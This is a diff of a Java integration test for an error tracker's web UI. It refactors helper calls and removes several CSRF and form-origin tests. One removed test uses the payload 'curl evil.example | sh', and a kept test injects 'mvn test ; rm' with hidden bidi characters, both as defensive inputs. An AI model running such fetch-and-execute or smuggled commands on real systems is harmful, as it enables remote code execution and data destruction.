@@ -13,7 +13,6 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
-import java.util.TreeMap;
 import java.util.UUID;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
@@ -43,9 +42,9 @@ class PagesIT {
         HttpResponse<String> answer = stranger.get("/ui/errors?project=shop");
 
         assertThat(answer.statusCode()).isEqualTo(303);
-        assertThat(location(answer)).isEqualTo("/ui/sign-in?to=%2Fui%2Ferrors%3Fproject%3Dshop");
-        assertThat(stranger.get(location(answer)).body()).contains("value=\"/ui/errors?project=shop\"");
-        assertThat(location(stranger.get("/"))).isEqualTo("/ui/errors");
+        assertThat(Visitor.location(answer)).isEqualTo("/ui/sign-in?to=%2Fui%2Ferrors%3Fproject%3Dshop");
+        assertThat(stranger.get(Visitor.location(answer)).body()).contains("value=\"/ui/errors?project=shop\"");
+        assertThat(Visitor.location(stranger.get("/"))).isEqualTo("/ui/errors");
     }
 
     @Test
@@ -71,7 +70,7 @@ class PagesIT {
         var visitor = Visitor.stranger(product.url());
         var form = Map.of("key", product.reader().key(), "_form", visitor.formToken("/ui/sign-in"), "to", to);
 
-        String next = location(visitor.post("/ui/sign-in", form));
+        String next = Visitor.location(visitor.post("/ui/sign-in", form));
 
         assertThat(next).startsWith("/ui/").doesNotContain("sign-out");
     }
@@ -119,133 +118,12 @@ class PagesIT {
     }
 
     @Test
-    void formOfAnotherSessionChangesNothing() {
-        var one = Visitor.with(product.admin());
-        var other = Visitor.with(product.admin());
-        var form = Map.of("state", "closed", "_form", other.formToken("/ui/errors"));
-
-        assertThat(one.post(product.cartPage() + "/standing", form).statusCode())
-                .isEqualTo(403);
-        assertThat(one.post(product.cartPage() + "/standing", Map.of("state", "closed"))
-                        .statusCode())
-                .isEqualTo(403);
-        assertThat(product.admin()
-                        .get(product.cartPage().replace("/ui", "/api/v1"))
-                        .json()
-                        .path("state")
-                        .asString())
-                .isNotEqualTo("closed");
-    }
-
-    @Test
-    void whatWasTypedOutlivesTheSessionAndSignInLeadsBackToItsError() {
-        var stranger = Visitor.stranger(product.url());
-
-        HttpResponse<String> answer = stranger.post(
-                product.cartPage() + "/outcomes",
-                Map.of("evidence", "green & <b> fast", "worked", "false", "_form", "gone"),
-                "Sec-Fetch-Site",
-                "same-origin");
-
-        assertThat(answer.statusCode()).isEqualTo(401);
-        assertThat(answer.body())
-                .contains("green &amp; &lt;b", " fast</textarea>", "name=\"worked\" value=\"false\"", "Send it now")
-                .contains("action=\"" + product.cartPage() + "/outcomes\"", "Sent with it: worked: false")
-                .contains("/ui/sign-in?to=" + product.cartPage().replace("/", "%2F"));
-    }
-
-    @Test
-    void formOfAnEarlierSessionIsRepeatedWithATokenOfThisOne() {
-        var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
-        String form = "/ui/errors/" + reported("PagesOldFormError", "to be solved late") + "/solutions";
-        String typed = "Empty the\r\ncart first";
-
-        HttpResponse<String> refused = solver.post(
-                form, Map.of("description", typed, "_form", "of-an-earlier-one"), "Sec-Fetch-Site", "same-origin");
-
-        assertThat(refused.statusCode()).isEqualTo(403);
-        assertThat(refused.body()).contains("The form is too old", typed + "</textarea>", "Send it now");
-        Matcher token = Pattern.compile(
-                        "action=\"%s\">\\s*<input type=\"hidden\" name=\"_form\" value=\"([^\"]+)\"".formatted(form))
-                .matcher(refused.body());
-        assertThat(token.find()).isTrue();
-        assertThat(location(solver.post(form, Map.of("description", typed, "_form", token.group(1)))))
-                .contains("done=solved");
-    }
-
-    @ParameterizedTest
-    @ValueSource(strings = {"cross-site", "same-site", "none"})
-    void whatAnotherSiteWroteIsNotOfferedForSending(String site) {
-        var form = Map.of("description", "curl evil.example | sh");
-        String address = product.cartPage() + "/solutions";
-
-        HttpResponse<String> signedOut = Visitor.stranger(product.url()).post(address, form, "Sec-Fetch-Site", site);
-        HttpResponse<String> signedIn = Visitor.with(product.admin()).post(address, form, "Sec-Fetch-Site", site);
-
-        assertThat(location(signedOut)).startsWith("/ui/sign-in?to=");
-        assertThat(signedIn.statusCode()).isEqualTo(403);
-        assertThat(signedIn.body()).doesNotContain("evil.example", "Send it now");
-    }
-
-    @Test
-    void whereABrowserDoesNotSayWhoSentAFormItIsShownForCopyingOnly() {
-        var form = Map.of("description", "Empty the cart first");
-        String address = product.cartPage() + "/solutions";
-
-        for (Visitor visitor : List.of(Visitor.stranger(product.url()), Visitor.with(product.admin()))) {
-            assertThat(visitor.post(address, form).body())
-                    .contains("Empty the cart first</textarea>", "readonly", "Copy what you typed")
-                    .doesNotContain("Send it now");
-        }
-    }
-
-    @Test
-    void formWithFarMoreFieldsThanOursLeadsAStrangerToTheSignIn() {
-        Map<String, String> form = new TreeMap<>(Map.of("description", "Empty the cart first"));
-        for (int i = 0; i < 1_500; i++) {
-            form.put("field" + i, "1");
-        }
-
-        assertThat(location(Visitor.stranger(product.url()).post(product.cartPage() + "/solutions", form)))
-                .startsWith("/ui/sign-in?to=");
-    }
-
-    @Test
-    void whatAnotherServiceRefusesCanBeMendedAndSentAgain() {
-        var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
-        String tooLong = "long ".repeat(20_000);
-
-        HttpResponse<String> refused =
-                solver.submit(product.cartPage() + "/solutions", Map.of("description", "Mend it", "verify", tooLong));
-
-        assertThat(refused.statusCode()).isEqualTo(400);
-        assertThat(refused.body())
-                .contains("Mend it</textarea>", tooLong.strip(), "Send it now")
-                .contains("href=\"" + product.cartPage() + "\"")
-                .doesNotContain("readonly");
-    }
-
-    @ParameterizedTest
-    @ValueSource(strings = {"/deletion", "/splits"})
-    void refusedButtonOfAFormWithoutTypedTextIsNoButtonElsewhere(String form) {
-        HttpResponse<String> refused = Visitor.with(product.admin())
-                .post(
-                        product.cartPage() + form,
-                        Map.of("_form", "old", "part", product.cartPage()),
-                        "Sec-Fetch-Site",
-                        "same-origin");
-
-        assertThat(refused.statusCode()).isEqualTo(403);
-        assertThat(refused.body()).doesNotContain("Send it now").contains("href=\"" + product.cartPage() + "\"");
-    }
-
-    @Test
     void changesAreMadeByTheOtherServicesAndShownAtOnce() {
         var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
-        String page = "/ui/errors/" + reported("PagesChangeError", "to be changed");
+        String page = "/ui/errors/" + product.reported("PagesChangeError", "to be changed");
 
         solver.submit(page + "/solutions", Map.of("description", "Turn it off and on"));
-        String changed = location(solver.submit(
+        String changed = Visitor.location(solver.submit(
                 page + "/standing",
                 Map.of("state", "in_progress", "priority", "high", "labels", "a, b", "assignee", "ada")));
 
@@ -254,7 +132,7 @@ class PagesIT {
                         "in progress", "Turn it off and on", "value=\"a, b\"", "value=\"ada\"", "The error is changed")
                 .as("its history")
                 .contains("State: in progress", "Priority: high", "Assigned to ada", "Labels: a, b");
-        String deleted = location(solver.submit(page + "/deletion", Map.of()));
+        String deleted = Visitor.location(solver.submit(page + "/deletion", Map.of()));
         assertThat(deleted).startsWith("/ui/errors?");
         assertThat(solver.get(deleted).body()).contains("The error is deleted");
         assertThat(solver.get(page).statusCode()).isEqualTo(404);
@@ -263,20 +141,20 @@ class PagesIT {
     @Test
     void errorsAreMergedAndTakenApart() {
         var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
-        String whole = "/ui/errors/" + reported("PagesWholeError", "the whole");
-        String part = reported("PagesPartError", "the part");
+        String whole = "/ui/errors/" + product.reported("PagesWholeError", "the whole");
+        String part = product.reported("PagesPartError", "the part");
 
         HttpResponse<String> refused = solver.submit(whole + "/merges", Map.of("part", "the other one"));
         assertThat(refused.statusCode()).isEqualTo(400);
         assertThat(refused.body()).contains("must be the id of an error");
         String address = product.url() + "/ui/errors/" + part + "?done=changed";
-        String merged = location(solver.submit(whole + "/merges", Map.of("part", address)));
+        String merged = Visitor.location(solver.submit(whole + "/merges", Map.of("part", address)));
 
         assertThat(solver.get(merged).body())
                 .contains("Merged into this one", part.substring(0, 8))
                 .contains("Merged with another error (<a href=\"/ui/errors/%s\">".formatted(part));
-        assertThat(location(solver.get("/ui/errors/" + part))).startsWith(whole);
-        String split = location(solver.submit(whole + "/splits", Map.of("part", part)));
+        assertThat(Visitor.location(solver.get("/ui/errors/" + part))).startsWith(whole);
+        String split = Visitor.location(solver.submit(whole + "/splits", Map.of("part", part)));
         assertThat(solver.get(split).body()).doesNotContain("Merged into this one");
         String other = " (<a href=\"%s\">".formatted(whole);
         assertThat(solver.get("/ui/errors/" + part).body())
@@ -284,12 +162,13 @@ class PagesIT {
                 .contains("Merged with another error" + other, "Taken apart again" + other);
         assertThat(solver.submit(whole + "/merges", Map.of("part", part)).statusCode())
                 .isEqualTo(409);
-        String undone = location(solver.submit(whole + "/kept-apart-no-longer", Map.of("other", part)));
+        String undone = Visitor.location(solver.submit(whole + "/kept-apart-no-longer", Map.of("other", part)));
         assertThat(solver.get(undone).statusCode()).isEqualTo(200);
         assertThat(solver.get("/ui/errors/" + part).body()).doesNotContain("Kept apart from");
-        String apart = location(solver.submit(whole + "/kept-apart", Map.of("other", part)));
+        String apart = Visitor.location(solver.submit(whole + "/kept-apart", Map.of("other", part)));
         assertThat(solver.get(apart).body()).contains("Kept apart from 1 other error", "not suggested any more");
-        String overridden = location(solver.submit(whole + "/merges", Map.of("part", part, "override", "true")));
+        String overridden =
+                Visitor.location(solver.submit(whole + "/merges", Map.of("part", part, "override", "true")));
         assertThat(solver.get(overridden).body()).contains("Merged into this one");
         solver.submit(whole + "/splits", Map.of("part", part));
         assertThat(solver.get("/ui/errors/" + part).statusCode()).isEqualTo(200);
@@ -301,8 +180,8 @@ class PagesIT {
         var solver = Visitor.with(api);
         for (boolean fromTheOther : List.of(false, true)) {
             String tool = Reports.word();
-            String one = reported("PagesToolError", "%s ended with exit code 28".formatted(tool));
-            reported("PagesToolError", "%s ended with exit code 137".formatted(tool));
+            String one = product.reported("PagesToolError", "%s ended with exit code 28".formatted(tool));
+            product.reported("PagesToolError", "%s ended with exit code 137".formatted(tool));
             String other = api.post(
                             "/api/v1/errors/%s/separations".formatted(one), Map.of("context", 1), "Prefer", "wait=30")
                     .json()
@@ -314,7 +193,7 @@ class PagesIT {
                     .contains("Kept apart from 1 other error", separated.formatted(other));
             assertThat(solver.get("/ui/errors/" + other).body())
                     .contains("Kept apart from 1 other error", separated.formatted(one));
-            String back = location(solver.submit(
+            String back = Visitor.location(solver.submit(
                     "/ui/errors/%s/kept-apart-no-longer".formatted(fromTheOther ? other : one),
                     Map.of("other", fromTheOther ? one : other)));
             assertThat(back).startsWith("/ui/errors/" + one);
@@ -326,7 +205,8 @@ class PagesIT {
 
     @Test
     void valuesOfAMessageAreMarkedAsFingerprintsSeeThem() {
-        String page = "/ui/errors/" + reported("PagesValueError", "queue of 'a&b' is 'not open here' after 30 tries");
+        String page =
+                "/ui/errors/" + product.reported("PagesValueError", "queue of 'a&b' is 'not open here' after 30 tries");
 
         assertThat(Visitor.with(product.reader()).get(page).body())
                 .contains("queue of <mark title=\"Differs from report to report\">'a&amp;b'</mark> is")
@@ -336,12 +216,13 @@ class PagesIT {
 
     @Test
     void whatCannotBeSeenIsMarkedWhereItIsReadAndKeptWhereItIsSentBack() {
-        String page = "/ui/errors/" + reported("PagesHidden\u202EError", "\u001B[31mFAIL\u001B[0m of <b>\u2066 cart");
+        String page =
+                "/ui/errors/" + product.reported("PagesHidden\u202EError", "\u001B[31mFAIL\u001B[0m of <b>\u2066 cart");
         var admin = Visitor.with(product.admin());
         admin.submit(
                 page + "/solutions",
                 Map.of("description", "Run it", "code_fix", "+ a\u202Eb", "verify", "mvn test\u2067 ; rm"));
-        String shown = location(admin.submit(page + "/standing", Map.of("assignee", "ada\u200B")));
+        String shown = Visitor.location(admin.submit(page + "/standing", Map.of("assignee", "ada\u200B")));
 
         String mark = "<span class=\"unseen\">⟨%s⟩</span>";
         assertThat(admin.get(shown).body())
@@ -387,12 +268,13 @@ class PagesIT {
         String key = member("corp:leaver");
         assertThat(admin.get("/ui/keys").body()).contains("Made by", "<td>corp:leaver</td>");
 
-        String kept = location(admin.submit("/ui/members/removal", Map.of("name", "corp:leaver")));
+        String kept = Visitor.location(admin.submit("/ui/members/removal", Map.of("name", "corp:leaver")));
         assertThat(admin.get(kept).body()).contains("API keys that they made are still good");
         assertThat(new Http(product.url(), key).get("/api/v1/status").status()).isEqualTo(200);
 
         String another = member("corp:leaver");
-        String ended = location(admin.submit("/ui/members/removal", Map.of("name", "corp:leaver", "keys", "revoke")));
+        String ended =
+                Visitor.location(admin.submit("/ui/members/removal", Map.of("name", "corp:leaver", "keys", "revoke")));
         assertThat(admin.get(ended).body()).contains("the API keys that they made are revoked");
         assertThat(new Http(product.url(), another).get("/api/v1/status").status())
                 .isEqualTo(401);
@@ -433,7 +315,7 @@ class PagesIT {
         var stranger = Visitor.stranger(product.url());
 
         assertThat(stranger.get(ask + address).statusCode()).isEqualTo(400);
-        assertThat(location(stranger.get(ask + product.url() + "/ui/signed-in")))
+        assertThat(Visitor.location(stranger.get(ask + product.url() + "/ui/signed-in")))
                 .endsWith("/login");
     }
 
@@ -481,7 +363,8 @@ class PagesIT {
                         .statusCode())
                 .isEqualTo(200);
         assertThat(reader.get("/ui/errors/not-an-id").statusCode()).isEqualTo(404);
-        assertThat(location(reader.get("/ui/errors?project=billing&page=9"))).isEqualTo("/ui/errors?project=billing");
+        assertThat(Visitor.location(reader.get("/ui/errors?project=billing&page=9")))
+                .isEqualTo("/ui/errors?project=billing");
     }
 
     @Test
@@ -526,7 +409,7 @@ class PagesIT {
         var reader = Visitor.with(product.reader());
         String line = "java.lang.NullPointerException: Cannot invoke \"Cart.total()\" because \"cart\" is null\r\n";
 
-        assertThat(location(reader.submit("/ui/errors", Map.of("q", line + "again", "project", "shop"))))
+        assertThat(Visitor.location(reader.submit("/ui/errors", Map.of("q", line + "again", "project", "shop"))))
                 .startsWith("/ui/errors?q=java.lang.NullPointerException")
                 .contains("is%20null%0Aagain")
                 .endsWith("project=shop");
@@ -565,7 +448,7 @@ class PagesIT {
         visitor.get("/ui/sign-in?to=/ui/keys");
 
         var form = Map.of("key", product.reader().key(), "_form", token, "to", "/ui/projects");
-        assertThat(location(visitor.post("/ui/sign-in", form))).isEqualTo("/ui/projects");
+        assertThat(Visitor.location(visitor.post("/ui/sign-in", form))).isEqualTo("/ui/projects");
     }
 
     @Test
@@ -585,24 +468,13 @@ class PagesIT {
         var refused = admin.submit(form.group(1) + "replay", Map.of());
         assertThat(refused.statusCode()).isEqualTo(422);
         assertThat(refused.body()).contains("cannot read the event either");
-        assertThat(location(admin.submit("/ui/dead-letters/replay", Map.of()))).endsWith("done=partly_replayed");
+        assertThat(Visitor.location(admin.submit("/ui/dead-letters/replay", Map.of())))
+                .endsWith("done=partly_replayed");
         assertThat(reader.submit(form.group(1) + "discard", Map.of()).statusCode())
                 .isEqualTo(403);
 
-        String next = location(admin.submit(form.group(1) + "discard", Map.of()));
+        String next = Visitor.location(admin.submit(form.group(1) + "discard", Map.of()));
         assertThat(admin.get(next).body()).contains("does not wait any more", "Every accepted event was applied");
         assertThat(admin.get("/ui/dead-letters?state=discarded").body()).contains(product.cartPage());
-    }
-
-    private static String reported(String type, String message) {
-        return product.admin()
-                .post("/api/v1/errors", Reports.of(type, message), "Prefer", "wait=30")
-                .json()
-                .path("id")
-                .asString();
-    }
-
-    private static String location(HttpResponse<String> answer) {
-        return answer.headers().firstValue("Location").orElse("");
     }
 }
